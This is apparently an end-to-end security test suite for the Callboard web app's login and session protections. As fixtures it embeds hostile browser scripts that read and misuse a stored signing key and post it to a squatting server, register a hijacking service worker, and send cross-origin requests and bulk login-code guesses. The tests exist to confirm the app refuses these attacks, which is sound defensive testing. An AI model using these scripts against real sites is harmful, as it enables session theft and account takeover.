import { WORKER_PATH } from '@callboard/contract';
import type { Page } from 'playwright-core';
import { afterAll, expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import { until } from '../test-support/until.ts';
import { callApi } from './support/api.ts';
import { openBrowser } from './support/browser.ts';
import { install } from './support/callboard.ts';
import { squat } from './support/port-holder.ts';
import { killPart } from './support/processes.ts';

const HEADER = 'x-callboard-page';
const board = (page: Page) => page.getByRole('region', { name: 'Backlog' });

/** A logged-in browser, at a Callboard that the test may restart on the same port. */
async function openBoard() {
  const installation = await install({}, undefined, true);
  const running = await installation.start();
  onTestFinished(running.stop);
  const browser = await openBrowser();
  await browser.page.goto(running.loginLink);
  await board(browser.page).waitFor();
  return { ...installation, ...running, ...browser, port: Number(new URL(running.origin).port) };
}

const atEnd: (() => void | Promise<void>)[] = [];
afterAll(async () => {
  for (const end of atEnd) await end();
});

async function startOnce() {
  const installation = await install({}, (end) => void atEnd.unshift(end), true);
  const running = await installation.start();
  atEnd.unshift(running.stop);
  return { ...installation, ...running };
}

let started: ReturnType<typeof startOnce> | undefined;

/** The Callboard of the tests that neither count its logins nor leave its port, with a fresh link. */
async function common() {
  started ??= startOnce();
  const callboard = await started;
  return { ...callboard, loginLink: (await callboard.command('link')).output.trim() };
}

/** A logged-in browser at that Callboard. */
async function openCommonBoard(...window: Parameters<typeof openBrowser>) {
  const callboard = await common();
  const browser = await openBrowser(...window);
  await browser.page.goto(callboard.loginLink);
  await board(browser.page).waitFor();
  return { ...callboard, ...browser };
}

let shared: ReturnType<typeof openCommonBoard> | undefined;

/** A board on a page of the browser that is shared by the tests which keep its login. */
async function openSharedBoard() {
  shared ??= openCommonBoard({}, (end) => void atEnd.unshift(end));
  const browser = await shared;
  const page = await browser.context.newPage();
  onTestFinished(() => page.close());
  await page.goto(browser.origin);
  await board(page).waitFor();
  return { ...browser, page };
}

/** Another browser, which follows a link printed by `callboard link`. */
async function logInElsewhere(
  command: (...args: string[]) => Promise<{ output: string }>,
  window: Parameters<typeof openBrowser>[0] = {},
) {
  const browser = await openBrowser(window);
  await browser.page.goto((await command('link')).output.trim());
  await board(browser.page).waitFor();
  return browser;
}

const create = (page: Page, title: string) =>
  page.evaluate(
    (name) =>
      fetch('/api/stages', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ projectId: 'shop', title: name, prompt: 'Do it' }),
      }).then(async (response) => [response.status, (await response.json()).code]),
    title,
  );

it('counts as loaded when the board does, leaves no code in the address or the history, and accepts no request with the cookie alone', async () => {
  const { loginLink, origin } = await common();
  const { page, errors } = await openBrowser();
  await page.goto(loginLink);
  // A person who opens the link can continue at once.
  await page.goto(`${origin}/inbox`);
  await page.getByRole('heading', { name: 'Inbox' }).waitFor();
  for (let back = 0; back < 2; back += 1) {
    await page.goBack().catch(() => null);
    expect(page.url()).not.toContain('code');
  }
  await page.goto(loginLink); // again, in the browser that is logged in already
  await board(page).waitFor();
  expect(page.url()).toBe(`${origin}/`);
  // A script of this very origin, which sends the cookie and does not know the key.
  expect(await create(page, 'By cookie alone')).toEqual([401, 'page_not_proven']);
  expect(errors.filter((error) => !/401|ERR_ABORTED/.test(error))).toEqual([]);
});

it('keeps two tabs working after a restart of the web server, without a new login', async () => {
  const { page, context, origin, supervisor } = await openSharedBoard();
  const other = await context.newPage();
  await other.goto(origin);
  await board(other).waitFor();
  await killPart(supervisor.pid, 'web server');
  const isUp = async () => (await callApi(origin, 'GET', '/api/health').catch(() => null))?.status === 200;
  await until('the web server is up again', isUp, { withinMs: 60_000 }); // a start, on a busy machine
  for (const [index, tab] of [page, other].entries()) {
    await tab.getByRole('button', { name: 'New stage' }).first().click();
    const dialog = tab.getByRole('dialog', { name: 'New stage' });
    await dialog.getByRole('textbox', { name: 'Title' }).fill(`Made after ${index}`);
    await dialog.getByRole('textbox', { name: 'Prompt' }).fill('Do it');
    await dialog.getByRole('button', { name: 'Add to board' }).click();
    await dialog.waitFor({ state: 'hidden' });
  }
  for (const tab of [page, other]) {
    await tab.getByText('Made after 0').first().waitFor();
    await tab.getByText('Made after 1').first().waitFor();
  }
});

it('says in plain words that the key of the login was lost, does not redirect in a loop, and accepts a new link', async () => {
  const { page, origin, command } = await openCommonBoard();
  await page.goto(`${origin}/favicon.svg`); // no connection to the database is open
  await page.evaluate(
    () =>
      new Promise((resolve, reject) => {
        const deleting = indexedDB.deleteDatabase('callboard');
        deleting.onsuccess = resolve;
        deleting.onerror = reject;
      }),
  );
  let requests = 0;
  page.on('request', (request) => {
    if (request.url().includes('/api/')) requests += 1;
  });
  await page.goto(origin);
  await page.getByText('Your login was cleared from this browser').waitFor();
  await page.getByText('npx callboard link').waitFor();
  const before = requests;
  await page.waitForTimeout(3_000);
  expect(requests).toBe(before);
  expect(before).toBeLessThan(10);
  await page.goto((await command('link')).output.trim());
  await board(page).waitFor();
});

it('shows every board a new login at once, and stops a revoked browser from doing anything', async () => {
  const { page, command, origin } = await openBoard();
  const other = await logInElsewhere(command);
  const notice = page.getByRole('alert').filter({ hasText: 'New login: Chrome on Linux' });
  await notice.getByText(/^Logged in as /).waitFor();
  await notice.getByRole('button', { name: 'Revoke' }).click();
  await other.page.getByText('You are not logged in').waitFor(); // its stream was closed; nobody has touched it
  await notice.waitFor({ state: 'hidden' });
  await other.page.reload();
  await other.page.getByText('You are not logged in').waitFor();

  await page.getByRole('button', { name: 'Account' }).click();
  await page.getByRole('menuitem', { name: 'Logins' }).click();
  const rows = page.getByRole('dialog', { name: 'Logins' }).getByRole('listitem');
  await rows.filter({ hasText: 'this browser' }).waitFor();
  await expect.poll(() => rows.count()).toBe(1);
  await rows.getByRole('button', { name: 'Log out' }).click();
  await page.getByText('You are not logged in').waitFor();
  const { logins } = await (await callApi(origin, 'GET', '/api/logins')).json();
  expect(logins).toEqual([]);
});

/** Reads the key of the board's origin, signs a nonce of its own choice with it, and sends the result to the squatter. */
const THIEF = `
  const open = indexedDB.open('callboard');
  open.onsuccess = () => {
    const all = open.result.transaction('login').objectStore('login').get('login');
    all.onsuccess = async () => {
      const key = all.result;
      const sign = async (text) => {
        const bytes = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key, new TextEncoder().encode(text));
        return btoa(String.fromCharCode(...new Uint8Array(bytes))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
      };
      const nonce = 'AAAAAAAAAAAAAAAAAAAAAA.99999999.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
      const signature = await sign('callboard page\\n' + location.origin + '\\n' + nonce);
      const taken = await crypto.subtle.exportKey('pkcs8', key).then(() => 'taken', () => 'refused');
      await fetch('/collect', { method: 'POST', body: JSON.stringify({ nonce, signature, taken }) });
    };
  };`;
const Loot = z.object({ nonce: z.string(), signature: z.string(), taken: z.string() });

/** Takes over the pages of its origin, as a program would that wants to stay in the browser. */
const STAYS = `self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
  self.addEventListener('fetch', (event) => {
    const page = new Response('<title>Not ours</title>', { headers: { 'content-type': 'text/html' } });
    if (event.request.mode === 'navigate') event.respondWith(page);
  });`;
const REGISTER = `navigator.serviceWorker?.register('/worker.js').then(() => navigator.serviceWorker.ready)
  .then(() => fetch('/collect', { method: 'POST', body: JSON.stringify('registered') }));`;

it('gives nothing of later use to a program that takes the port while Callboard is away, and removes the service worker that it left behind', async () => {
  const { page, context, origin, port, stop, start, command } = await openBoard();
  const withWorkers = await logInElsewhere(command, { hasWorker: true });
  await withWorkers.page.goto('about:blank');
  await stop();
  const portHolder = await squat(port, THIEF + REGISTER, STAYS);
  const loot = () => portHolder.collected.map((one) => JSON.parse(one)).filter((one) => one !== 'registered');
  // The open page reconnects to the port, and proves nothing; another tab runs the squatter's script.
  await expect.poll(() => portHolder.seen.some((headers) => headers[HEADER] !== undefined)).toBe(true);
  const visit = async (browser: typeof context) => {
    const victim = await browser.newPage();
    await victim.goto(origin);
    return victim;
  };
  const victim = await visit(context);
  await expect.poll(() => loot().length).toBeGreaterThan(0);
  await victim.close();
  const { nonce, signature, taken } = Loot.parse(loot()[0]);
  expect(taken).toBe('refused');
  const { cookie = '', [HEADER]: token = '' } = portHolder.seen.find((headers) => headers[HEADER] !== undefined) ?? {};
  const secret = /callboard_session_\d+=([^;]+)/.exec(cookie)?.[1] ?? '';
  expect(secret).not.toBe('');
  const captured = await visit(withWorkers.context);
  await expect.poll(() => portHolder.collected).toContain(JSON.stringify('registered'));
  await captured.close();
  await portHolder.close();

  const again = await start(port);
  onTestFinished(again.stop);
  await expectUseless(origin, { cookie, token: String(token), secret, nonce, signature });
  // The logged-in person still is: in the tab that was open all the time, and in a new one.
  await board(page).waitFor();
  await board(await visit(context)).waitFor();

  await withWorkers.page.goto(origin);
  await expect.poll(() => withWorkers.page.title()).toContain('Callboard');
  await board(withWorkers.page).waitFor();
  const workers = () =>
    withWorkers.page.evaluate(async () => {
      const all = await navigator.serviceWorker.getRegistrations();
      return all.map(({ active }) => active?.scriptURL);
    });
  await expect.poll(workers).toEqual([`${origin}${WORKER_PATH}`]); // Callboard's own
});

/** What a program has seen and got from a page opens nothing. */
async function expectUseless(
  origin: string,
  got: Record<'cookie' | 'token' | 'secret' | 'nonce' | 'signature', string>,
) {
  const { cookie, token, secret, nonce, signature } = got;
  const attempt = async (headers: Record<string, string>) => (await fetch(`${origin}/api/board`, { headers })).status;
  expect(await attempt({ cookie })).toBe(401);
  expect(await attempt({ cookie, [HEADER]: token })).toBe(401);
  expect(await attempt({ authorization: `Bearer ${secret}` })).toBe(401);
  const prove = async (body: object) => {
    const response = await fetch(`${origin}/api/login/proof`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return [response.status, (await response.json()).code];
  };
  expect(await prove({ nonce, signature })).toEqual([401, 'page_not_proven']); // a nonce of the squatter's
  const fresh = await (await fetch(`${origin}/api/login/nonce`)).json();
  expect(await prove({ ...fresh, signature })).toEqual([401, 'page_not_known']);
}

it('exposes the cookie to a dev server on another port, which can do nothing with it', async () => {
  const { page, context, origin } = await openSharedBoard();
  const attack = `(async () => {
    const target = ${JSON.stringify(origin)};
    const status = (path, options) => fetch(target + path, { credentials: 'include', ...options }).then((r) => r.status, () => 'refused');
    const results = {
      read: await status('/api/board'),
      write: await status('/api/logout', { method: 'POST', mode: 'no-cors' }),
      databases: (await indexedDB.databases()).length,
    };
    for (let i = 0; i < 300; i++) { const image = new Image(); image.src = target + '/login?code=guess' + i; }
    for (let i = 0; i < 300; i++) { const image = new Image(); image.src = target + '/api/board?' + i; }
    await fetch('/collect', { method: 'POST', body: JSON.stringify(results) });
  })();`;
  const dev = await squat(0, attack);
  const visit = await context.newPage();
  await visit.goto(dev.origin);
  await expect.poll(() => dev.collected.length).toBeGreaterThan(0);
  const { read, databases } = JSON.parse(dev.collected[0] ?? '');
  expect([read, databases]).toEqual(['refused', 0]);
  const { cookie = '' } = dev.seen[0] ?? {};
  const secret = /callboard_session_\d+=([^;]+)/.exec(cookie)?.[1] ?? '';
  expect(secret).not.toBe('');
  const shown: Record<string, string>[] = [
    { cookie },
    { cookie, [HEADER]: secret },
    { authorization: `Bearer ${secret}` },
  ];
  for (const headers of shown) {
    for (const path of ['/api/board', '/api/events', '/api/decisions?format=csv', '/api/logins', '/api/openapi.json']) {
      expect((await fetch(`${origin}${path}`, { headers })).status).toBe(401);
    }
  }
  // It has logged nobody out and used up no quota.
  await page.reload();
  await board(page).waitFor();
});
